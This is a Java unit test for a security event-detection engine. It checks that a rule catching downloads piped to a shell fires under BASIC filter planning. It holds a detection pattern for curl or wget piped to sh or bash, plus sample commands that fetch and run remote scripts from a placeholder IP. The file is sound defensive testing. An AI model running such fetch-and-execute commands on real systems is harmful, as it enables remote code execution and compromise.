package dev.peregrine.engine.cep;

import static org.assertj.core.api.Assertions.assertThat;

import dev.peregrine.alerting.Alert;
import dev.peregrine.alerting.Priority;
import dev.peregrine.collector.event.Event;
import dev.peregrine.collector.event.FieldRegistry;
import dev.peregrine.collector.event.StandardFields;
import dev.peregrine.engine.rules.CepRuleDef;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * A CEP rule's filter matches every event it describes. Esper 8.9.0's default filter index
 * planning (ADVANCED) drops matches of filters shaped {@code (x like a or x like b) and x like c}:
 * the download-piped-to-a-shell below went unreported. CEP rules are compiled with BASIC planning.
 */
class CepFilterPlanningTest {

    private static final long T0 = 1_795_342_200_000_000_000L;

    private static final String PIPE_TO_SHELL = "select proc_args as args from Event(evt_type = 'execve'"
            + " and proc_name in ('sh', 'bash')"
            + " and (proc_args like '%curl %' or proc_args like '%wget %')"
            + " and (proc_args like '%| sh' or proc_args like '%| bash' or proc_args like '%|sh'))";

    private static Event execve(final long offset, final String args) {
        return Event.builder().time(T0 + offset).set(StandardFields.EVT_SOURCE, "syscall")
                .set(StandardFields.EVT_TYPE, "execve").set(StandardFields.PROC_NAME, "bash")
                .set(StandardFields.PROC_ARGS, args).build();
    }

    @Test
    void aFilterOfAlternativesAndASuffixMatchesEveryEventItDescribes() throws Exception {
        final CepRuleDef rule = new CepRuleDef("pipe_to_shell", "Download piped to a shell", "", PIPE_TO_SHELL,
                "%args", Priority.WARNING, List.of(), true, "test.yaml", 1, List.of(new CepRuleDef.Location(1, 1)),
                List.of(new CepRuleDef.Location(1, 1)));
        final CepDetector detector = new CepDetector(new CepCompiler(FieldRegistry.standard()).compile(List.of(rule)));
        final List<Alert> alerts = new ArrayList<>();
        try {
            detector.onEvent(execve(1, "-c id; curl http://203.0.113.9/x | sh"), alerts::add);
            detector.onEvent(execve(2, "-c wget -qO- http://203.0.113.9/i | bash"), alerts::add);
            // look-alikes: a download saved to a file, a pipe with no download
            detector.onEvent(execve(3, "-c curl -o install.sh http://203.0.113.9/i"), alerts::add);
            detector.onEvent(execve(4, "-c cat notes.txt | sh"), alerts::add);
        } finally {
            detector.close();
        }

        assertThat(alerts).extracting(Alert::output).containsExactly(
                "-c id; curl http://203.0.113.9/x | sh", "-c wget -qO- http://203.0.113.9/i | bash");
    }
}
